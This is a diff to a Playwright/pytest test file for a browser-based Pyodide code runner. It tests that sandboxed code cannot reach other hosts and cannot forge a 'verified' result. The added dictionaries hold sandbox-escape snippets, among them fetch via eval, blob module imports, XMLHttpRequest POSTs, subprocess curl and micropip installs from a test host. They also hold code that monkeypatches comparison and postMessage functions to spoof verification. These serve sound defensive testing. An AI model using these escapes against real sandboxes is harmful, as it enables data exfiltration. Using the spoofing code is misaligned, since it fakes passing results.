@@ -250,13 +250,55 @@ ESCAPES = {
 }
 
 
-def test_no_other_way_out_is_found(careless: Page, elsewhere: str) -> None:
+# A third round: no request may come of these, whatever they give.
+FURTHER = {
+    "RTCPeerConnection": 'c = js.RTCPeerConnection.new(js.JSON.parse(\'{"iceServers": [{"urls": "stun:NAME"}]}\'))',
+    "data module": "await run_js('import(\"data:text/javascript,1\")')",
+    "a module in a blob": "await run_js('import(URL.createObjectURL(new Blob([\"1\"])))')",
+    "eval of a request": "js.eval('fetch(\"HOST/x\")')",
+    "a JavaScript module of Python": "import pyodide_js\n    pyodide_js.registerJsModule('m', js)\n    import m\n"
+    "    await m.fetch('HOST/x')",
+    "a Request": "await js.fetch(js.Request.new('HOST/x'))",
+    "an address without a scheme": "await js.fetch('//NAME/x')",
+    "the same with a name and a word": "await js.fetch('http://a:b@NAME/x')",
+    "backslashes": "await js.fetch('http:\\\\\\\\NAME/x')",
+    "another port of this host": "await js.fetch('http://localhost:PORT/x')",
+    "text, at once": "r = js.XMLHttpRequest.new()\n    r.open('POST', 'HOST/x', False)\n    r.send('x')",
+    "an old request's address after the fact": "r = js.XMLHttpRequest.new()\n    r.open('GET', '/', True)\n"
+    "    r.open('GET', 'HOST/x', False)\n    r.send()",
+    "requests": "import requests\n    requests.get('HOST/x')",
+    "micropip": "import micropip\n    await micropip.install('HOST/x-1.0-py3-none-any.whl')",
+    "urllib3": "import urllib3\n    urllib3.request('GET', 'HOST/x')",
+    "asyncio": "await asyncio.open_connection('127.0.0.1', PORT)",
+    "a mail server": "import smtplib\n    smtplib.SMTP('127.0.0.1', PORT)",
+    "ftplib": "import ftplib\n    ftplib.FTP().connect('127.0.0.1', PORT)",
+    "a web browser": "import webbrowser\n    assert webbrowser.open('HOST/x')",
+    "a process": "import subprocess\n    subprocess.run(['curl', 'HOST/x'], check=True)",
+    "a socket with a protocol": "js.WebSocket.new('wss://NAME/x', 'x')",
+    "a picture": "await js.createImageBitmap(await (await js.fetch('HOST/x.png')).blob())",
+    "WebAssembly from elsewhere": "await js.WebAssembly.compileStreaming(js.fetch('HOST/x.wasm'))",
+    "a window": "js.open('HOST/x')",
+    "another place": "js.self.location.assign('HOST/x')",
+    "the place set": "js.self.location.href = 'HOST/x'\n    assert 'HOST' in js.location.href",
+    "a note": "await js.Notification.requestPermission()",
+    "a report": "js.ReportingObserver.new(print)\n    await js.fetch('HOST/x')",
+    "push": "await js.registration.pushManager.subscribe()",
+    "an element": "js.document.createElement('img').src = 'HOST/x'",
+    "background fetch": "await js.registration.backgroundFetch.fetch('x', 'HOST/x')",
+    "a package by name": "import pyodide_js\n    pyodide_js.loadPackage.messageCallback = print\n"
+    "    await pyodide_js.unpackArchive(await (await js.fetch('HOST/x')).arrayBuffer(), 'zip')",
+}
+
+
+@pytest.mark.parametrize("tries", [ESCAPES, FURTHER], ids=["second round", "third round"])
+def test_no_other_way_out_is_found(careless: Page, elsewhere: str, tries: dict[str, str]) -> None:
     Elsewhere.asked.clear()
     name = elsewhere.removeprefix("http://")
     there = {"HOST": elsewhere, "NAME": name, "PORT": name.partition(":")[2]}
-    codes = [re.sub("HOST|NAME|PORT", lambda word: there[word[0]], code) for code in ESCAPES.values()]
-    tries = [f"async def try_{k}():\n    {code}" for k, code in enumerate(codes)]
+    codes = [re.sub("HOST|NAME|PORT", lambda word: there[word[0]], code) for code in tries.values()]
+    tried = [f"async def try_{k}():\n    {code}" for k, code in enumerate(codes)]
     begun = f"""import asyncio, js
+from pyodide.code import run_js
 from pyodide.ffi import to_js
 outcome = {{}}
 async def tried(k, one):
@@ -266,8 +308,8 @@ async def tried(k, one):
         outcome[k] = "refused"
     else:
         outcome[k] = "got through"
-{chr(10).join(tries)}
-tasks = [asyncio.ensure_future(tried(k, globals()[f"try_{{k}}"])) for k in range({len(tries)})]
+{chr(10).join(tried)}
+tasks = [asyncio.ensure_future(tried(k, globals()[f"try_{{k}}"])) for k in range({len(tried)})]
 """
     go(careless, SIX)
     first, second, *_ = careless.locator("live-block").all()
@@ -278,20 +320,22 @@ tasks = [asyncio.ensure_future(tried(k, globals()[f"try_{{k}}"])) for k in range
     edit(second, "print([outcome.get(k) for k in range(len(tasks))])")
     outcomes = ast.literal_eval(run(second))
     assert not Elsewhere.asked
-    silent = {"EventSource", "a wheel from elsewhere"}  # which raise nothing: the host was not asked, that is enough
-    assert not [one for one, told in zip(ESCAPES, outcomes, strict=True) if told != "refused" and one not in silent]
+    silent = {
+        "EventSource",
+        "a wheel from elsewhere",
+        "a socket with a protocol",
+    }  # which raise nothing: the host was not asked, that is enough
+    assert not [one for one, told in zip(tries, outcomes, strict=True) if told != "refused" and one not in silent]
 
 
 def test_a_forged_answer_brings_no_link_to_elsewhere_and_no_word_of_the_pages(careless: Page) -> None:
     go(careless, ONE)
     block = careless.locator("live-block")
-    answer = {"id": 0, "done": True, "ok": True, "same": True, "text": "", "html": "<p>words</p>", "time": 0.1}
     for at in ("https://other.example/", "//other.example/", "javascript:x()", "data:text/html,x", "/elsewhere/"):
-        hint = {"text": "Go there", "page": {"name": "there", "at": at}}
-        sent = f"js.postMessage(js.JSON.parse(json.dumps({answer | {'hint': hint}} | {{'id': k}})))"
-        edit(block, f"import js, json\nfor k in range(200):\n    {sent}")
+        forged = f"sys._getframe(2).f_globals['_FRAMEWORKS']['away'] = ('Away', {at!r})"
+        edit(block, f"import sys\n{forged}\nimport away")
         run(block)
-        expect(block.locator(".live-hint")).to_have_text("Go there")
+        expect(block.locator(".live-hint")).to_contain_text("Away does not run in a browser")
         assert block.locator(".live-out a").count() == 0, at
         assert "erified" not in block.locator(".live-bar").inner_text()
 
@@ -320,6 +364,51 @@ BAD = (
     "set, live-block, foreignObject, [style], [onclick], [popover], [is], [slot], [target], [ping], [fill^=url], "
     "[id]:not([id^=gradlab-]), [class*=md-], [class*=live-bar], a[href^=http], a[*|href^=http]"
 )
+
+
+def test_a_file_of_another_host_is_not_fetched_though_python_ends_over_it(careless: Page, elsewhere: str) -> None:
+    Elsewhere.asked.clear()
+    go(careless, ONE)
+    block = careless.locator("live-block")
+    lazy = f"pyodide_js.FS.createLazyFile('/', 'x', '{elsewhere}/x', True, False)"
+    edit(block, f"import pyodide_js\n{lazy}\nopen('/x').read()")
+    run(block)
+    assert state(block) in ("error", "failed")
+    assert not Elsewhere.asked
+
+
+# Code that wants the page's own code to pass for verified, though it prints something else from now on.
+SPOOFS = {
+    "the comparison": "import equality\nequality.same = lambda *words: True",
+    "a part of the comparison": "import equality\nequality._as_written = lambda w, g: (w, w)",
+    "the comparison of the block": "import live\nlive.same = lambda *words: True",
+    "the block itself": "import live, json\nold = live.run\n"
+    "live.run = lambda *words: json.dumps(json.loads(old(*words)) | {'same': True})",
+    "what the block answers": "import json\nold = json.dumps\n"
+    "json.dumps = lambda x, **more: old(x | {'same': True} if 'same' in x else x, **more)",
+    "every module": "import sys\nfor module in list(sys.modules.values()):\n"
+    "    if hasattr(module, 'same'):\n        module.same = lambda *words: True",
+    "the parser of answers": "import js\nold = js.JSON.parse\n"
+    "js.JSON.parse = lambda text, *more: (lambda x: (setattr(x, 'same', True), x)[1])(old(text))",
+    "the way out": "import js\nold = js.postMessage\n"
+    "js.postMessage = lambda x: old(js.Object.assign(x, js.JSON.parse('{\"same\": true}')))",
+    "an answer of its own, later": "import js\njs.setInterval(lambda: js.postMessage(js.JSON.parse("
+    '\'{"done": true, "ok": true, "same": true, "text": "", "time": 0}\')), 1)',
+}
+
+
+@pytest.mark.parametrize("name", SPOOFS)
+def test_what_differs_never_passes_for_verified(careless: Page, name: str) -> None:
+    go(careless, SIX)
+    first, second, *_ = careless.locator("live-block").all()
+    edit(
+        first, SPOOFS[name] + "\nimport builtins\nsay = print\nbuiltins.print = lambda *words, **more: say('FAILED')"
+    )
+    run(first)
+    run(second)
+    assert state(second) != "same"
+    first.get_by_role("button", name="Reset").click()
+    careless.reload()
 
 
 def test_the_html_of_a_result_stays_in_its_box(careless: Page) -> None:
